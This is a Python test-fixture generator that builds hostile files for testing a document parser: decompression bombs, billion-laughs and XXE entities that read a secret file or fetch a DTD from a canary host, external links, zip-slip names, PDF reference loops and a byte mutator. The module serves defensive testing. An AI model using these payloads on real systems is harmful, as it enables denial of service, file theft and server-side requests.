"""Files as attackers send them: bombs, entities, loops, names that lead elsewhere, things to fetch; and damage by a seeded mutator.

Every text that would be fetched or read from elsewhere names the canary server or a secret file, so that a test can see whether it was.
"""

import io
import json
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

MEGABYTE = 1_000_000
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{10 * ("&" + before + ";")}">' for before, name in zip("abcdefghij", "bcdefghijk", strict=True)
)


def relationships(*links: tuple[str, str, bool]) -> str:
    """(kind, target, external) of each relationship."""
    lines = []
    for number, (kind, target, external) in enumerate(links):
        mode = ' TargetMode="External"' if external else ""
        lines.append(f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>')
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(lines)}</Relationships>'


def package(main: str, xml: bytes | str, others: dict[str, bytes | str] | None = None, links: str = "") -> bytes:
    """An Office file with this main part."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", relationships(("officeDocument", main, False)))
        archive.writestr(main, xml)
        folder, _, name = main.rpartition("/")
        archive.writestr(f"{folder}/_rels/{name}.rels", links or relationships())
        for other, content in (others or {}).items():
            archive.writestr(other, content)
    return file.getvalue()


def word(inside: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}" xmlns:r="{RELATIONS}"><w:body>{inside}</w:body></w:document>'


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def zipped(files: dict[str, bytes | str]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R", tail: bytes | None = None) -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out) if tail is None else bytes(out) + tail


def stream(data: bytes, filters: bytes = b"/FlateDecode", extra: bytes = b"") -> bytes:
    return b"<</Length %d /Filter %s %s>>\nstream\n" % (len(data), filters, extra) + data + b"\nendstream"


def page(contents: bytes, extra: bytes = b"") -> tuple[bytes, ...]:
    """Catalogue, pages, a page and its contents."""
    return (
        b"<</Type /Catalog /Pages 2 0 R " + extra + b">>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources <</Font <</F1 <</Type /Font /Subtype /Type1 "
        b"/BaseFont /Helvetica>>>>>>>>",
        contents,
    )


def flate(megabytes: int) -> bytes:
    """So many million spaces, compressed."""
    compressor = zlib.compressobj(9)
    block = b" " * MEGABYTE
    return b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()


def bombs() -> Iterator[tuple[str, bytes]]:
    gigabyte = flate(1_000)
    yield "flate-1gb.pdf", pdf(*page(stream(gigabyte)))
    yield "flate-twice.pdf", pdf(*page(stream(zlib.compress(gigabyte, 9), b"[/FlateDecode /FlateDecode]")))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("_rels/.rels", relationships(("officeDocument", "word/document.xml", False)))
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(word("").partition("</w:body>")[0].encode())
            for _ in range(500):
                member.write(b" " * MEGABYTE)
    bomb = file.getvalue()
    yield "bomb-500mb.docx", bomb
    # The directory says that it is small.
    yield (
        "bomb-lying.docx",
        bomb.replace(struct.pack("<L", 500 * MEGABYTE + len(word("").partition("</w:body>")[0])), struct.pack("<L", 4_000)),
    )
    deep = zipped({"a.txt": "The innermost text."})
    for level in range(6):
        deep = zipped({f"{level}-{copy}.zip": deep for copy in range(4)})
    yield "zip-of-zips.zip", deep
    yield "many.zip", zipped({f"{number}.bin": b"" for number in range(30_000)})
    yield "spaces-200mb.zip", zipped({"spaces.txt": b" " * 200 * MEGABYTE})
    yield (
        "rows.ods",
        zipped(
            {
                "content.xml": ods_of(
                    '<t:table-row t:number-rows-repeated="1048576">'
                    '<t:table-cell t:number-columns-repeated="16384"><p:p>x</p:p></t:table-cell></t:table-row>'
                )
            }
        ),
    )
    yield "corner.xlsx", xlsx('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>corner</t></is></c></row>', "A1:XFD1048576")
    yield "nested.json", b"[" * 200_000
    yield "number.json", b'{"text": ' + b"9" * 1_000_000 + b"}"
    yield "nested.html", b"<div>" * 100_000 + b"text"
    yield (
        "nested.docx",
        package("word/document.xml", word("<w:sdt><w:sdtContent>" * 5_000 + paragraph("x") + "</w:sdtContent></w:sdt>" * 5_000)),
    )
    yield "nested.md", b"> " * 40_000 + b"text\n" + b"- " * 40_000 + b"[" * 50_000
    yield "quotes.csv", b'"' * 2_000_001
    yield "columns.csv", b"a," * 3 * MEGABYTE
    yield (
        "parts.eml",
        b"From: a@b\nContent-Type: multipart/mixed; boundary=x\n\n" + b"--x\nContent-Type: multipart/mixed; boundary=x\n\n" * 20_000,
    )


def ods_of(rows: str) -> str:
    office, table, text = (f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("office", "table", "text"))
    return (
        f'<o:document-content xmlns:o="{office}" xmlns:t="{table}" xmlns:p="{text}">'
        f'<o:body><o:spreadsheet><t:table t:name="S">{rows}</t:table>'
        "</o:spreadsheet></o:body></o:document-content>"
    )


def xlsx(rows: str, dimension: str = "A1:B2", before: str = "") -> bytes:
    sheet = (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )
    book = f'<workbook xmlns="{SHEET}" xmlns:r="{RELATIONS}"><sheets><sheet name="S" sheetId="1" r:id="r0"/></sheets></workbook>'
    types = CONTENT_TYPES.replace(
        "</Types>",
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    )
    return zipped({
        "[Content_Types].xml": types,
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", False)),
        "xl/worksheets/sheet1.xml": sheet,
    })  # fmt: skip


def entities(canary: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY % p SYSTEM "{canary}/dtd">%p;]>'
    for name, declared in (("laughs", f"{LAUGHS}]>"), ("xxe", outside)):
        used = "&k;" if name == "laughs" else "&e;"
        yield f"{name}.docx", package("word/document.xml", word(paragraph(used), declared))
        yield (
            f"{name}-utf16.docx",
            package("word/document.xml", word(paragraph(used), declared).replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")),
        )
        yield f"{name}.odt", zipped({"content.xml": declared + f"<x><body><text><p>{used}</p></text></body></x>"})
        yield f"{name}.xlsx", xlsx(f'<row><c t="inlineStr"><is><t>{used}</t></is></c></row>', before=declared)
        yield f"{name}.epub", zipped({"META-INF/container.xml": f"{declared}<container>{used}</container>"})
        yield f"{name}.html", f"{declared}<p>A page that declares entities: {used}</p>".encode()


def fetching(canary: str, secret: Path) -> Iterator[tuple[str, bytes]]:
    links = relationships(
        ("image", f"{canary}/image.png", True), ("attachedTemplate", f"{canary}/template.dotm", True),
        ("styles", f"{canary}/styles.xml", False),
        ("footnotes", f"file://{secret}", True), ("numbering", "../../../../../../etc/hostname", False),
    )  # fmt: skip
    yield "links.docx", package("word/document.xml", word(paragraph("A document that points elsewhere.")), links=links)
    yield "main.docx", zipped({"_rels/.rels": relationships(("officeDocument", f"{canary}/document.xml", True))})
    page_of = (
        f"<html><head><link rel=stylesheet href={canary}/s.css><script src={canary}/s.js></script><base href={canary}></head><body>"
        f"<img src={canary}/i.png><iframe src={canary}/f></iframe><object data={canary}/o></object><p>A page that points elsewhere.</p>"
        f"<meta http-equiv=refresh content='0;url={canary}'><video src={canary}/v></video></body></html>"
    )
    yield "links.html", page_of.encode()
    yield "links.eml", f"From: a@b\nSubject: Points elsewhere\nContent-Type: text/html\n\n{page_of}".encode()
    yield (
        "body.eml",
        (
            "From: a@b\nSubject: External\nContent-Type: message/external-body; access-type=URL; "
            f'URL="{canary}/b"\n\nContent-Type: text/plain\n\n'
        ).encode(),
    )
    yield "links.md", f"# Points elsewhere\n\n![x]({canary}/i.png) <{canary}> [a]: {canary}/r\n".encode()
    opf = (
        '<package><metadata><title>T</title></metadata><manifest><item id="a" media-type="application/xhtml+xml" href="a.xhtml"/>'
        f'<item id="b" media-type="application/xhtml+xml" href="{canary}/b.xhtml"/>'
        '<item id="c" media-type="text/html" href="../../etc/hostname"/>'
        '</manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>'
    )
    container = '<container><rootfiles><rootfile full-path="p.opf"/></rootfiles></container>'
    yield "links.epub", zipped({"META-INF/container.xml": container, "p.opf": opf, "a.xhtml": page_of})
    action = f"/OpenAction <</S /URI /URI ({canary}/a)>> /AA <</WC <</S /Launch /F ({secret})>>>>".encode()
    text = b"BT /F1 12 Tf 72 700 Td (A file that points elsewhere.) Tj ET"
    yield "action.pdf", pdf(*page(stream(zlib.compress(text)), action))
    yield "external.pdf", pdf(*page(f"<</Length 0 /F <</FS /URL /F ({canary}/s)>> /FFilter /FlateDecode>>\nstream\n\nendstream".encode()))


def loops() -> Iterator[tuple[str, bytes]]:
    text = stream(zlib.compress(b"BT /F1 12 Tf 72 700 Td (A file whose tables go round.) Tj ET"))
    whole = pdf(*page(text))
    start = int(whole.rpartition(b"startxref\n")[2].split()[0])
    yield "prev-loop.pdf", pdf(*page(text), trailer=b"/Root 1 0 R /Prev %d" % start)
    yield "prev-self.pdf", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)
    yield "kids-loop.pdf", pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>")
    yield (
        "parent-loop.pdf",
        pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1>>", b"<</Type /Page /Parent 3 0 R>>"),
    )
    yield "count.pdf", pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [3 0 R] /Count 2000000000>>", b"<</Type /Page>>")
    yield "size.pdf", b"%PDF-1.7\nxref\n0 2000000000\ntrailer<</Size 2000000000 /Root 1 0 R>>\nstartxref\n9\n%%EOF"
    yield "brackets.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 500_000 + b"\nendobj\ntrailer<</Root 1 0 R>>"
    form = b"<</Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources <</XObject <</X 4 0 R>>>> /Length 5>>\nstream\n/X Do\nendstream"
    yield "form-loop.pdf", pdf(*page(form))
    yield "operators.pdf", pdf(*page(stream(zlib.compress(b"BT /F1 12 Tf (a) Tj ET " * 1_000_000))))


def unsafe_archives() -> Iterator[tuple[str, bytes]]:
    for number, name in enumerate(
        ("../../escaped.txt", "/escaped.txt", "..\\..\\escaped.txt", "C:\\escaped.txt", "a/../../escaped.md", "a\0b.txt")
    ):
        yield f"slip-{number}.zip", _named(name)
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(link, "/etc/hostname")
        archive.writestr("beside.txt", "A text beside a link in an archive.")
        archive.writestr(f"{'n' * 300}.txt", "A text with a name of 300 characters.")
        archive.writestr("abc\u202etxt.md", "A text whose name runs backwards.")
        archive.writestr("twice.txt", "First.")
    yield "members.zip", file.getvalue()
    yield "encrypted.zip", _encrypted()


def _named(name: str) -> bytes:
    """An archive with a member of exactly this name."""
    stand_in = "n" * len(name)
    return zipped({stand_in: "A text that wants to be elsewhere."}).replace(stand_in.encode(), name.encode())


def _encrypted() -> bytes:
    data = bytearray(zipped({"secret.txt": "A secret."}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def oddities() -> Iterator[tuple[str, bytes]]:
    yield "page.pdf", b"<html><body><p>A page that says it is a PDF.</p></body></html>"
    yield "empty.pdf", b""
    yield "empty.docx", b""
    yield "nul.txt", b"A text with a NUL\0 in it."
    yield "nul.html", b"<p>A page with a \0 NUL.</p>"
    yield "nul.csv", b"a,b\n1\0,2\n"
    yield "surrogate.json", json.dumps({"text": "A text with a lone \ud800 surrogate."}).encode()
    yield "surrogate.html", b"<p>A page with a &#xD800; lone surrogate.</p>"
    yield "cesu.txt", "Señal: ".encode() + b"\xed\xa0\x80\xed\xb0\x80 and more text."
    yield "bidi.txt", "Pay \u202e001\u202c euros\u200b to \U000e0041\U000e0042Ana\u2066.\x1b[2J".encode()
    yield "bidi.html", "<p>Pay \u202e001\u202c euros\u200b to \U000e0041\U000e0042Ana\u2066.</p>".encode()
    yield "word.docx", zipped({"a.txt": "no Word file"})
    yield "old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    yield "text.docx", b"A text that says it is a Word file."
    yield f"{'n' * 246}.txt", b"A text with a long name."
    yield "left\u202egpj.txt", b"A text whose name runs backwards."
    yield "\u05d0\u05d1\u05d2.md", "# \u05d0\u05d1\n\nA text with a Hebrew name.".encode()


def mutated(samples: list[Path], count: int, seed: int = 7) -> Iterator[tuple[str, bytes]]:
    """Truncated, bit-flipped, overwritten and spliced copies of every sample in turn."""
    choose = random.Random(seed)
    contents = [(path, path.read_bytes()) for path in samples]
    for number in range(count):
        path, data = contents[number % len(contents)]
        changed = bytearray(data)
        kind = number // len(contents) % 4
        if kind == 0:
            del changed[choose.randrange(len(changed)) :]
        elif kind == 1:
            for _ in range(choose.randrange(1, 30)):
                changed[choose.randrange(len(changed))] ^= 1 << choose.randrange(8)
        elif kind == 2:
            start = choose.randrange(len(changed))
            changed[start : start + choose.randrange(1, 200)] = choose.randbytes(choose.randrange(1, 200))
        else:
            other = contents[choose.randrange(len(contents))][1]
            middle = choose.randrange(len(changed))
            changed[middle : middle + 50] = other[choose.randrange(len(other)) :][:200]
        yield f"{number:04}{path.suffix}", bytes(changed)
